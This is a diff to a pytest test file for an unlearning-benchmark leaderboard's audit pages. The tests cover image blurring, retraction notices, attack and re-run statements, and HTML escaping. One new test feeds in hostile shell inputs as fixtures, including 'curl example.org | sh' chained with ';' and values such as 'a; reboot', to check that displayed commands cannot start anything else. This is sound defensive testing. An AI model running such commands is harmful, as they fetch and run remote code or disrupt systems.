@@ -1,7 +1,10 @@
 """The audit report: what it says, what it says is missing, and that no changed byte passes its seal."""
 
+import html
 import json
 import os
+import re
+import shlex
 import stat
 from datetime import date
 from pathlib import Path
@@ -10,11 +13,15 @@ import numpy as np
 import pytest
 
 from unlearnbench.bench.cli import main
+from unlearnbench.bench.cli_commands import registry
 from unlearnbench.bench.errors import UserError
+from unlearnbench.bench.statements import Rerun, write_statement
 from unlearnbench.bench.types import Value, missing
 from unlearnbench.leaderboard.audit import make_audit
 from unlearnbench.leaderboard.audit_limits import list_limits, read_judge_errors
-from unlearnbench.leaderboard.audit_page import is_blurred, render
+from unlearnbench.leaderboard.audit_page import render
+from unlearnbench.leaderboard.gallery import HARMLESS, is_blurred
+from unlearnbench.leaderboard.load import load_one
 from unlearnbench.leaderboard.policy import Policy
 from unlearnbench.leaderboard.seal import (
     OPENING,
@@ -118,9 +125,11 @@ def test_the_judges_errors_are_those_published_with_the_world() -> None:
 
 
 def test_nudity_of_real_worlds_is_blurred_in_its_pixels(tmp_path: Path) -> None:
-    assert is_blurred("nudity", "sd15@1")
-    assert not is_blurred("nudity", "emoji@1")
-    task = make_record("none")[0].task.model_copy(update={"family": "nudity", "world": "sd15@1"})
+    own = make_record("none")[0].task
+    task = own.model_copy(update={"family": "nudity", "world": "sd15@1"})
+    harmless = [task.model_copy(update={"world": f"{name}@1"}) for name in HARMLESS]
+    assert [is_blurred(found) for found in (task, own, *harmless)] == [True, *[False] * (1 + len(HARMLESS))]
+    assert set(HARMLESS) <= set(registry("worlds"))
     audit = make_audit(write(tmp_path, "none", cell="none", task=task), "")
     sharp, blurred = render(audit, show=True), render(audit)
     assert "They are blurred" not in sharp
@@ -281,3 +290,81 @@ def test_markup_in_a_record_stays_text(tmp_path: Path) -> None:
     assert "<script" not in page
     assert '<section class="seal"' not in page
     assert verify(seal(page, None)).state == "unsigned"
+
+
+BY = ("--by", "A. Maintainer")
+
+
+def _say(*words: object) -> None:
+    assert main([*map(str, words), *BY]) == 0
+
+
+def test_a_record_that_was_taken_back_says_so(records: tuple[Path, Path]) -> None:
+    clean = make_audit(records[0], "")
+    assert clean.base is not None
+    assert clean.said == ()
+    _say("retract", records[0], "--reason", "trained on the <b>evaluation</b> prompts")
+    audit = make_audit(records[0], "")
+    assert "not to be relied on" in dict(list_limits(audit))["Taken back"]
+    page = render(audit)
+    assert "<strong>This record was taken back</strong> by A. Maintainer" in page
+    assert page.count("trained on the &lt;b&gt;evaluation&lt;/b&gt; prompts") == 2
+    assert "was taken back</strong>" not in render(clean)
+
+
+def test_a_base_that_was_taken_back_is_not_found_and_a_named_one_is_told(
+    records: tuple[Path, Path], tmp_path: Path
+) -> None:
+    second = write(tmp_path, "none", cell="none-2")
+    _say("retract", records[1], "--reason", "wrong weights", "--successor", second)
+    found = make_audit(records[0], "").base
+    assert found is not None
+    assert found.loaded.name == "none-2.json"
+    named = make_audit(records[0], "", baseline=records[1])
+    assert named.base is not None
+    assert "wrong weights. It is superseded by the record" in dict(list_limits(named))["Before"]
+
+
+def test_attacks_and_re_runs_are_told(records: tuple[Path, Path]) -> None:
+    for ua, point in (("0.25", "160"), ("0.5", "120")):
+        _say("attack", records[0], "--ua", ua, "--point", point, "--attack", "Probe 1", "--images", "40")
+    own = load_one(records[0])
+    number = {"point": "160", "metric": "UA", "claimed": 1.0, "rerun": 0.5, "state": "differs"}
+    write_statement(
+        Rerun(about=own.digest, cell=own.record.cell, by="B", date="2025-04-01", rerun="0" * 64,
+              verdict="differs", margin=0.02, same_versions=True, numbers=[number]),
+        records[0].parent,
+    )  # fmt: skip
+    texts = [text for about, text in list_limits(make_audit(records[0], "")) if about == "Stronger attack"]
+    assert len(texts) == 2
+    [here] = [text for text in texts if "another point" not in text]
+    assert "is 1.00" in here
+    assert "0.25" in here
+    repeated = dict(list_limits(make_audit(records[0], "")))["Repeated"]
+    assert "the numbers differ; 0 of 1 headline numbers are equal" in repeated
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("unlearnbench run --suite 'my suite' --store ~/cache", "--suite 'my suite' --store ~/cache"),
+        ("unlearnbench run ; curl example.org | sh", "';' curl example.org '|' sh"),
+        ("curl example.org | sh", None),
+        ("unlearnbench run --skip 'x", None),
+    ],
+)
+def test_a_command_to_copy_starts_nothing_else(tmp_path: Path, command: str, shown: str | None) -> None:
+    environment = make_record("balanced")[0].environment | {"threads": "2; reboot"}
+    changes = {"command": command, "suite": "a; reboot", "environment": environment}
+    audit = make_audit(write(tmp_path, "balanced", cell="x", **changes), "")
+    page = html.unescape(render(audit))
+    codes = re.findall(r'<pre class="command"><code>(.*?)</code></pre>', page)
+    if shown is None:
+        assert codes == []
+        assert "names no command" in page
+        return
+    assert codes[0] == f"unlearnbench run {shown}"
+    assert "--suite 'a; reboot' --task" in codes[1]
+    assert all("threads" not in code for code in codes)
+    assert [shlex.split(code)[0] for code in codes] == ["unlearnbench", "unlearnbench"]
+    assert not any(word in (";", "|") for code in codes for word in shlex.shlex(code, punctuation_chars=True))
